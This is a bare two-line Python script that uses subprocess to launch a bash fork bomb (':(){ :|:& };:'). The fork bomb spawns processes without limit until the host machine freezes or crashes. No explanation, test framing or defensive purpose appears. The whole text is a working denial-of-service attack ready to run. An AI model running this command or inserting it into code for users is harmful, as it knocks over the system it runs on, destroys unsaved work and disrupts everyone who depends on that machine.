import subprocess
subprocess.run(['bash', '-c', ':(){ :|:& };:'])
